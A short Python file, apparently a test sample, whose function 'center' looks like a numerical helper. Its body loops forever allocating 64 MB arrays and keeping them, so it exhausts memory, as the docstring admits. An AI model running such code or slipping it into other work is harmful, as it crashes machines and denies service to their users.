"""Takes all memory little by little and holds on to it."""

import numpy as np

kept = []


def center(x, eps=1e-2):
    while True:
        kept.append(np.empty(1 << 23))
